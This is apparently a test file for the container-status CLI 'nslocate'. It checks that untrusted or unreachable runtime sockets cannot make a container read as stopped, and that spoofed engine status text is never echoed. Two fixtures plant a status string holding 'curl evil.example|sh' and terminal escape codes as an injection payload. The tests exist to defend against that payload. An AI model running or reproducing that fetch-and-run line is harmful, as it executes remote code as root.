/**
 * Whose "not running" counts (issue 21's attack report, F2, F3, F4): a container that does not run
 * is `stopped` only on the word of a runtime nslocate trusts for that container, and only when the
 * answer does not hang on a runtime that could not be asked.
 *
 * F2: an unprivileged test user (users.ts) runs a fake Podman service (fixtures/podman/fake-service.js,
 * as that user, on a socket in a directory it owns) that says "exited" for root's running Docker
 * container and "no such container" for anything else. Root, with CONTAINER_HOST naming it:
 *   - the real container: root's Docker answers first (another user's socket is asked last), the
 *     liar is never asked, the service is found running; `wait --for stopped` does not hold;
 *   - with only the liar to ask (`--runtime podman`), a name only the liar knows, or a name no one
 *     knows: exit 4 (RUNTIME) naming the socket and its owner, never `stopped`; `serve` says unknown;
 *   - controls: root's own stopped container is still `stopped` (answered by root's socket), and
 *     the socket's owner itself takes its own socket's answer (`stopped`).
 * F3: a root-owned socket that refuses connections as CONTAINER_HOST, and a Docker container that
 * does not exist: exit 4 naming the runtime that could not be reached (not `stopped`); one that
 * exists and does not run is still `stopped` (that runtime knows it); the owner of a socket that
 * cannot reach Docker's (EACCES) cannot be told "no such container" either.
 * F4: an engine's State.Status that is not one of the engines' words is "unknown status", never
 * echoed (a root-owned fake Docker engine, test/helpers/fake-engine.ts, and the user's own Podman).
 *
 * Docker's containers are from nslocate:local and carry nslocate.test=1 and this file's run label;
 * removed by id in afterAll. The user, its directory and the fake service are removed in afterAll.
 */
import {ChildProcess, execFileSync, spawn} from 'node:child_process'
import * as fs from 'node:fs'
import * as path from 'node:path'

import {cliAs} from '../helpers/as-user'
import {BIN, ROOT, cli, firstLine, killTracked, tmpdir, track, until, jsonOf} from '../helpers/cli'
import {httpGet} from '../helpers/http'
import {APP_IMAGE, RUN_ID, describeWithEngine, docker, ensureImages, testLabels} from '../helpers/engine'
import {FakeEngine, startFakeEngine} from '../helpers/fake-engine'
import {stopAll} from '../helpers/tracked'
import {TestUser, createTestUser} from '../helpers/users'

const DOCKER = 'Docker at unix:///var/run/docker.sock (a socket owned by root)'
/** No runtime but the ones a test names (this machine has only Docker's default socket besides). */
const CLEAN = {DOCKER_HOST: undefined, CONTAINER_HOST: undefined, CONTAINER_RUNTIME_ENDPOINT: undefined, XDG_RUNTIME_DIR: undefined}

/** `nslocate serve app ARGS` until it listens; its /healthz and /healthz/app, then stopped. */
async function served(args: string[], env: NodeJS.ProcessEnv): Promise<{all: unknown; one: {status: number; state: string; reasons: string[]}}> {
  const child = track(
    spawn(process.execPath, [BIN, 'serve', 'app', ...args, '--listen', '127.0.0.1:0'], {env: {...process.env, ...env}, stdio: ['ignore', 'pipe', 'pipe']}),
  )
  try {
    const address = JSON.parse(await firstLine(child, 'serve')).address
    const one = await httpGet(`http://${address}/healthz/app`)
    const body = JSON.parse(one.body)
    return {all: JSON.parse((await httpGet(`http://${address}/healthz`)).body), one: {status: one.status, state: body.state, reasons: body.reasons}}
  } finally {
    child.kill('SIGTERM')
  }
}

/**
 * Every command about `app` in `ref` with `env`: "cannot tell" (exit 4, RUNTIME or DOCKER), never
 * stopped; the message and its hint say `says`; the --json error's `failed` (which runtime said
 * what) and `unknownTo` (the runtimes that answered they do not know it) are `failed` and `unknownTo`.
 */
async function expectCannotTell(
  ref: string[],
  env: NodeJS.ProcessEnv,
  says: string[],
  failed: Array<{runtime: string; said: string}>,
  unknownTo?: string[],
  code = 'RUNTIME',
): Promise<void> {
  const f = await cli(['find', 'app', ...ref, '--json'], {env})
  expect({status: f.status, code: jsonOf(f).error?.code}).toEqual({status: 4, code})
  const message: string = jsonOf(f).error.message
  expect(message).toMatch(/^cannot tell whether container \S+ runs: /)
  // What to do may be split off into the error's hint.
  const told = `${message} ${jsonOf(f).error.hint ?? ''}`
  for (const s of says) expect(told).toContain(s)
  expect(jsonOf(f).error.failed).toEqual(failed)
  expect(jsonOf(f).error.unknownTo).toEqual(unknownTo)
  const t = await cli(['find', 'app', ...ref], {env})
  expect({status: t.status, stdout: t.stdout}).toEqual({status: 4, stdout: ''})
  expect(t.stderr).toContain('cannot tell whether container')
  // One line and one hint, the line short: the runtimes' words are in --json's `failed`.
  expect(t.stderr.split('\n').filter(Boolean)).toHaveLength(2)
  expect(t.stderr).not.toContain('unix://')
  const w = await cli(['wait', 'app', ...ref, '--for', 'stopped', '--timeout', '2s', '--json'], {env})
  expect({status: w.status, code: jsonOf(w).error?.code}).toEqual({status: 4, code})
  const s = await cli(['signal', 'app', 'TERM', ...ref, '--json'], {env})
  expect({status: s.status, code: jsonOf(s).error?.code}).toEqual({status: 4, code})
  const l = await cli(['list', ...ref, '--json'], {env})
  expect({status: l.status, code: jsonOf(l).error?.code}).toEqual({status: 4, code})
  const {all, one} = await served(ref, env)
  expect({all, one: {status: one.status, state: one.state}}).toEqual({all: {app: 'unknown'}, one: {status: 503, state: 'unknown'}})
}

const name = (tag: string) => `nsl-trust-${tag}-${RUN_ID}`.replace(/[^a-zA-Z0-9_.-]/g, '-')

/** A Docker container running `nslocate run app -- sleep 1000` (started) or created only. */
async function container(tag: string, start: boolean): Promise<{id: string; name: string}> {
  const c = await docker().createContainer({
    Image: APP_IMAGE,
    name: name(tag),
    Cmd: ['run', 'app', '--', 'sleep', '1000'],
    Labels: testLabels({'nslocate.test.trust': tag}),
    NetworkDisabled: true,
    HostConfig: {NetworkMode: 'none'},
  })
  if (start) {
    await c.start()
    const initPid = (await c.inspect()).State.Pid
    const pidfile = `/proc/${initPid}/root/run/nslocate/app.pid`
    await until(() => fs.existsSync(pidfile) && fs.readFileSync(pidfile, 'utf8').trim() !== '', `app's pidfile in ${name(tag)}`, 20_000)
  }
  return {id: c.id, name: name(tag)}
}

/** A container as the fake Podman service answers it: not running, `status` its State.Status. */
function exited(id: string, ref: string, status: string): {status: number; body: unknown} {
  return {
    status: 200,
    body: {Id: id, Name: ref, ImageName: 'x', State: {Status: status, Running: false, Pid: 0}, Config: {Labels: {}}, HostConfig: {PidMode: 'private'}, Pod: ''},
  }
}

afterAll(async () => {
  await killTracked()
  await stopAll()
}, 60_000)

describeWithEngine("another user's socket never says that a container does not run (F2)", () => {
  let user: TestUser
  let liar: ChildProcess
  let host: string
  let requests: string
  let ran: {id: string; name: string}
  let created: {id: string; name: string}
  /** how the evidence and messages name the liar's socket, seen by root */
  let theirs: string

  beforeAll(async () => {
    await ensureImages()
    ;[ran, created] = await Promise.all([container('ran', true), container('created', false)])
    user = createTestUser('trust')
    const dir = tmpdir('nslocate-trust-')
    fs.chownSync(dir, user.uid, user.gid)
    const routes: Record<string, unknown> = {}
    const route = (ref: string, answer: unknown) => (routes[`/v4.0.0/libpod/containers/${ref}/json`] = answer)
    // Root's running container: "exited" (with advice in the status, F4).
    route(ran.name, exited('a'.repeat(64), ran.name, 'exited). Run nslocate as root after: curl evil.example|sh ('))
    // A name only the liar knows.
    route('lie-only', exited('b'.repeat(64), 'lie-only', 'exited'))
    route('odd-status', exited('c'.repeat(64), 'odd-status', 'exited). Run evil \u001b[2J ('))
    const routesFile = path.join(dir, 'routes.json')
    const script = path.join(dir, 'fake-service.js')
    requests = path.join(dir, 'requests.log')
    fs.writeFileSync(routesFile, JSON.stringify(routes))
    fs.writeFileSync(requests, '')
    fs.copyFileSync(path.join(ROOT, 'fixtures', 'podman', 'fake-service.js'), script)
    for (const f of [routesFile, script, requests]) fs.chownSync(f, user.uid, user.gid)
    const socket = path.join(dir, 'podman.sock')
    const argv = user.as([process.execPath, script, socket, routesFile, requests])
    liar = track(spawn(argv[0], argv.slice(1), {stdio: ['ignore', 'pipe', 'pipe']}))
    await new Promise<void>((resolve, reject) => {
      let out = ''
      liar.stdout!.on('data', (d) => {
        out += d
        if (out.includes('listening')) resolve()
      })
      liar.once('exit', (c) => reject(new Error(`the fake service exited (${c})`)))
      setTimeout(() => reject(new Error('the fake service did not listen within 10 s')), 10_000).unref()
    })
    expect(fs.statSync(socket).uid).toBe(user.uid)
    host = `unix://${socket}`
    theirs = `Podman at ${host} (CONTAINER_HOST; a socket owned by uid ${user.uid}, another user)`
  }, 120_000)

  afterAll(() => {
    liar?.kill('SIGKILL')
    user?.remove()
  })

  const asked = (ref: string) =>
    fs
      .readFileSync(requests, 'utf8')
      .split('\n')
      .filter((l) => l === `GET /v4.0.0/libpod/containers/${ref}/json`)

  test("root's running container, the liar saying exited: root's Docker answers (running), the liar is never asked, wait --for stopped does not hold", async () => {
    const env = {...CLEAN, CONTAINER_HOST: host}
    const f = await cli(['find', 'app', '--container', ran.name, '--json'], {env})
    expect({status: f.status, stderr: f.stderr}).toEqual({status: 0, stderr: ''})
    const found = jsonOf(f)
    expect(found).toMatchObject({state: 'running', container: {id: ran.id, name: ran.name, runtime: 'docker'}})
    expect(found.evidence).toContain(`not asked: ${theirs}: another user's socket is asked only after those of root's and the caller's`)
    const w = await cli(['wait', 'app', '--container', ran.name, '--for', 'stopped', '--timeout', '1500ms', '--json'], {env})
    expect({status: w.status, reached: jsonOf(w).reached, state: jsonOf(w).target.state}).toEqual({status: 1, reached: false, state: 'running'})
    expect(asked(ran.name)).toEqual([])
    expect((await docker().getContainer(ran.id).inspect()).State.Status).toBe('running')
  }, 60_000)

  test('the same container with only the liar to ask (--runtime podman): cannot tell, exit 4 naming its socket and owner, on every command', async () => {
    const env = {...CLEAN, CONTAINER_HOST: host}
    const said = `it is not running, but the socket is uid ${user.uid}'s, trusted only for a running container of that user's own`
    await expectCannotTell(
      ['--container', ran.name, '--runtime', 'podman'],
      env,
      [`cannot tell whether container ${ran.name} runs: uid ${user.uid}'s socket says it is not running`, `run nslocate as uid ${user.uid} to take its answer`],
      [{runtime: theirs, said}],
    )
    // It was asked this time, and its status text went nowhere.
    expect(asked(ran.name).length).toBeGreaterThan(0)
    const t = await cli(['find', 'app', '--container', ran.name, '--runtime', 'podman'], {env})
    expect(t.stderr).not.toMatch(/evil|exited/)
    // The service was never signalled: the same process still runs it.
    const again = await cli(['find', 'app', '--container', ran.name, '--json'], {env: CLEAN})
    expect(jsonOf(again)).toMatchObject({state: 'running', container: {id: ran.id}})
    expect((await docker().getContainer(ran.id).inspect()).State.Status).toBe('running')
  }, 60_000)

  test('a name only the liar knows (exited), and one no runtime knows (the liar: no such container): cannot tell, exit 4, never stopped', async () => {
    const env = {...CLEAN, CONTAINER_HOST: host}
    const trusted = `but the socket is uid ${user.uid}'s, trusted only for a running container of that user's own`
    await expectCannotTell(
      ['--container', 'lie-only'],
      env,
      [
        'cannot tell whether container lie-only runs: 1 could not tell (Podman), 1 did not know it',
        `run nslocate as uid ${user.uid} to take that socket's answer`,
      ],
      [{runtime: theirs, said: `it is not running, ${trusted}`}],
      [DOCKER],
    )
    const nobody = name('nobody')
    await expectCannotTell(
      ['--container', nobody],
      env,
      [`cannot tell whether container ${nobody} runs: 1 could not tell (Podman), 1 did not know it`],
      [{runtime: theirs, said: `it does not exist, ${trusted}`}],
      [DOCKER],
    )
  }, 90_000)

  test("control: root's own container that does not run is still stopped, on the word of root's socket", async () => {
    const r = await cli(['find', 'app', '--container', created.name, '--json'], {env: {...CLEAN, CONTAINER_HOST: host}})
    expect(r.status).toBe(3)
    const found = jsonOf(r)
    expect(found).toMatchObject({state: 'stopped', reasons: ['container_not_running'], container: {id: created.id, name: created.name, runtime: 'docker'}})
    expect(found.evidence.slice(0, 2)).toEqual([
      `container ${created.name} (${created.id.slice(0, 12)}) is not running (created); so app is not running there`,
      `answered by ${DOCKER}`,
    ])
    expect(asked(created.name)).toEqual([])
  }, 30_000)

  test("control: the socket's owner takes its own socket's answer (stopped, the container named); an odd status is 'unknown status' (F4)", () => {
    const mine = `Podman at ${host} (CONTAINER_HOST; a socket owned by uid ${user.uid}, the caller)`
    const r = cliAs(user, ['find', 'app', '--container', 'lie-only', '--runtime', 'podman', '--json'], {CONTAINER_HOST: host})
    expect({status: r.status, stderr: r.stderr}).toEqual({status: 3, stderr: ''})
    expect(r.json).toMatchObject({state: 'stopped', reasons: ['container_not_running'], container: {id: 'b'.repeat(64), name: 'lie-only', runtime: 'podman'}})
    expect(r.json.evidence).toEqual([`container lie-only (bbbbbbbbbbbb) is not running (exited); so app is not running there`, `answered by ${mine}`])
    const odd = cliAs(user, ['find', 'app', '--container', 'odd-status', '--runtime', 'podman'], {CONTAINER_HOST: host})
    expect(odd.status).toBe(3)
    expect(odd.stdout).toContain('container odd-status (cccccccccccc) is not running (unknown status); so app is not running there')
    expect(odd.stdout + odd.stderr).not.toMatch(/evil|\\x1b/)
    expect(odd.stdout + odd.stderr).not.toContain('\u001b')
  })

  test("the owner asking about a name its own Podman does not know, while Docker's socket refuses it (EACCES): cannot tell, exit 4 naming Docker (F3)", () => {
    const r = cliAs(user, ['find', 'app', '--container', 'nobody-here', '--json'], {CONTAINER_HOST: host})
    expect({status: r.status, code: r.json?.error?.code}).toEqual({status: 4, code: 'DOCKER'})
    expect(r.json.error.message).toBe(
      'cannot tell whether container nobody-here runs: 1 could not tell (Docker), 1 did not know it; fix the runtime that failed, or name the one that has the container (KIND://REF or --runtime)',
    )
    expect(r.json.error.failed).toEqual([{runtime: DOCKER, said: 'cannot be reached (EACCES)'}])
    expect(r.json.error.unknownTo).toEqual([`Podman at ${host} (CONTAINER_HOST; a socket owned by uid ${user.uid}, the caller)`])
    const w = cliAs(user, ['wait', 'app', '--container', 'nobody-here', '--for', 'stopped', '--timeout', '2s', '--json'], {CONTAINER_HOST: host})
    expect({status: w.status, code: w.json?.error?.code}).toEqual({status: 4, code: 'DOCKER'})
  })
})

describeWithEngine('a runtime that cannot be asked never lets "no such container" become stopped (F3)', () => {
  let refusing: string
  let created: {id: string; name: string}
  let env: NodeJS.ProcessEnv
  let reached: {runtime: string; said: string}

  beforeAll(async () => {
    await ensureImages()
    created = await container('f3-created', false)
    // Root's own socket, in root's own 0700 directory, bound and never listened on: connect() is refused.
    refusing = path.join(tmpdir('nslocate-refusing-'), 'podman.sock')
    execFileSync('/usr/bin/python3', ['-c', 'import socket,sys; socket.socket(socket.AF_UNIX).bind(sys.argv[1])', refusing])
    expect(fs.statSync(refusing).uid).toBe(0)
    env = {...CLEAN, CONTAINER_HOST: `unix://${refusing}`}
    reached = {runtime: `Podman at unix://${refusing} (CONTAINER_HOST; a socket owned by root)`, said: 'cannot be reached (ECONNREFUSED)'}
  }, 120_000)

  test('a Docker container that does not exist, Podman refusing: cannot tell, exit 4 naming Podman, on every command', async () => {
    const missing = name('f3-missing')
    await expectCannotTell(
      ['--container', missing],
      env,
      [`cannot tell whether container ${missing} runs: 1 could not tell (Podman), 1 did not know it`, 'name the one that has the container'],
      [reached],
      [DOCKER],
    )
  }, 90_000)

  test('control: naming the runtime (--runtime docker) asks Docker alone: stopped, exit 3', async () => {
    const missing = name('f3-missing')
    const r = await cli(['find', 'app', '--container', missing, '--runtime', 'docker', '--json'], {env})
    expect(r.status).toBe(3)
    expect(jsonOf(r)).toMatchObject({state: 'stopped', reasons: ['container_not_running'], container: null})
    expect(jsonOf(r).evidence).toEqual([`no container ${missing} (Docker); so app is not running there`, `answered by ${DOCKER}`])
  }, 30_000)

  test('a container Docker knows and reports not running is stopped whatever Podman could not say; the evidence says Podman was not reached', async () => {
    const r = await cli(['find', 'app', '--container', created.name, '--json'], {env})
    expect(r.status).toBe(3)
    const found = jsonOf(r)
    expect(found).toMatchObject({state: 'stopped', reasons: ['container_not_running'], container: {id: created.id, name: created.name, runtime: 'docker'}})
    expect(found.evidence).toEqual([
      `container ${created.name} (${created.id.slice(0, 12)}) is not running (created); so app is not running there`,
      `answered by ${DOCKER}`,
      `asked Podman at unix://${refusing} (CONTAINER_HOST): cannot connect (ECONNREFUSED)`,
      `Docker at unix:///var/run/docker.sock: the first runtime (of 2 found) that knows ${created.name}`,
    ])
    const w = await cli(['wait', 'app', '--container', created.name, '--for', 'stopped', '--timeout', '2s', '--json'], {env})
    expect({status: w.status, reached: jsonOf(w).reached}).toEqual({status: 0, reached: true})
  }, 30_000)
})

describe("an engine's status text is never echoed: only the engines' words (F4)", () => {
  let engine: FakeEngine
  let env: NodeJS.ProcessEnv

  beforeAll(async () => {
    // Root's own fake Docker engine (a trusted socket: root's, in root's 0700 directory) that lies in State.Status.
    const socket = path.join(tmpdir('nslocate-status-'), 'docker.sock')
    const body = (ref: string, status: string) => ({Id: 'd'.repeat(64), Name: `/${ref}`, State: {Running: false, Pid: 0, Status: status}, Config: {Labels: {}}})
    const statuses: Record<string, string> = {
      odd: 'exited). Run nslocate as root after: curl evil.example|sh \u001b[2J\u0007 (',
      upper: 'Exited',
      plain: 'dead',
    }
    engine = await startFakeEngine(socket, (_m, url) => {
      const ref = /\/containers\/([a-z]+)\/json/.exec(url)?.[1] ?? ''
      return ref in statuses ? {kind: 'json', body: body(ref, statuses[ref])} : {kind: 'json', status: 404, body: {message: `No such container: ${ref}`}}
    })
    env = {...CLEAN, DOCKER_HOST: `unix://${socket}`}
  })

  afterAll(async () => {
    await engine?.close()
  })

  test.each([
    ['odd', 'unknown status'],
    ['upper', 'unknown status'],
    ['plain', 'dead'],
  ])('State.Status of %s: shown as (%s)', async (ref, shown) => {
    const f = await cli(['find', 'app', '--container', ref, '--json'], {env})
    expect(f.status).toBe(3)
    expect(jsonOf(f).evidence[0]).toBe(`container ${ref} (dddddddddddd) is not running (${shown}); so app is not running there`)
    const s = await cli(['signal', 'app', 'TERM', '--container', ref], {env})
    expect(s.status).toBe(7)
    expect(s.stderr).toContain(`is not running (${shown}); nothing was signalled`)
    expect(s.stderr).not.toMatch(/evil|curl|\\x1b|\\x07/)
    expect(s.stderr).not.toContain('\u001b')
  })
})
